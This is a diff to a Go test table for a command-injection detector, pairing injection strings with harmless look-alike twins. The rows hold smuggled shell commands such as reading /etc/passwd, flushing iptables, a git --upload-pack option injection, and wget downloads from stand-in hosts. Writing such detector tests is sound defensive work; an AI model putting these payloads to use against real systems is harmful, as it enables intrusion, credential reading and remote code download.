@@ -14,6 +14,17 @@ func FuzzJudge(f *testing.F)      { language.Fuzz(f) }
 func BenchmarkJudge(b *testing.B) { language.Benchmark(b) }
 
 var rows = []languagetest.Row{
+	{Shows: "a command tightly behind its operator, after a sentence", Attack: "I would like to know where my order is, please help.;cat /etc/passwd", Twin: "I would like to know where my order is; cat and dog food, please help."},
+	{Shows: "a comment ends the command", Attack: "127.0.0.1;whoami # and so on, and on", Twin: "127.0.0.1; who am I # and so on"},
+	{Shows: "a program at once behind an operator", Attack: ";iptables -F", Twin: "a firewall; iptables or nftables"},
+	{Shows: "a shell in a variable", Attack: ";$SHELL -c id", Twin: "$SHELL is /bin/zsh; -c is an option"},
+	{Shows: "a command that runs its argument", Attack: ";exec ls /home", Twin: "the exec lists; exec summary"},
+	{Shows: "an option that runs a command", Attack: "--upload-pack=touch /tmp/x", Twin: "--output=touch.txt /tmp is full"},
+	{Shows: "a host with a path", Attack: "a.png;wget x.example.net/y.sh", Twin: "a.png; b.png/c.d"},
+	{Shows: "a prelude runs nothing by itself", Attack: "cd /tmp;wget http://192.0.2.7/x", Twin: "cd /tmp", Suspicious: true},
+	{Shows: "asking a program about itself", Attack: "perl -e 'exec id'", Twin: "perl -v", Suspicious: true},
+	{Shows: "a character reference is no operator", Attack: "a;cp -r /etc /tmp/x", Twin: "bread &amp; cp -r or so"},
+	{Shows: "inline code in a chat", Attack: "`ls -la`", Twin: "hey there, see what it says & `ls -la`; thanks", Suspicious: true},
 	{Shows: "operator and a command with a fitting path", Attack: "127.0.0.1; cat /etc/passwd", Twin: "the dog; cat and mouse"},
 	{Shows: "pipe into a lonely command after an address", Attack: "8.8.8.8|id", Twin: "name|id|type", Suspicious: true},
 	{Shows: "and-list", Attack: "x && whoami", Twin: "Tom && Jerry"},
